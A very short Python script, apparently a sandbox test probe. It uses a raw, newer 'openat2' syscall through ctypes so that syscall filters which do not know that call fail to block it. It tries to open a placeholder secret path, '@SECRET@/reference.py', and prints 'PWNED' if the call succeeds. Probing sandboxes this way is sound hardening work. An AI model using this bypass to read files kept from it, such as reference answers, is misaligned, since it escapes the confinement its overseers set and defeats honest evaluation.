"""Open a file by a system call that old filters do not know."""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
how = (ctypes.c_uint64 * 3)(0, 0, 0)
if libc.syscall(437, -100, b"@SECRET@/reference.py", how, 24) >= 0:
    print("PWNED opened")
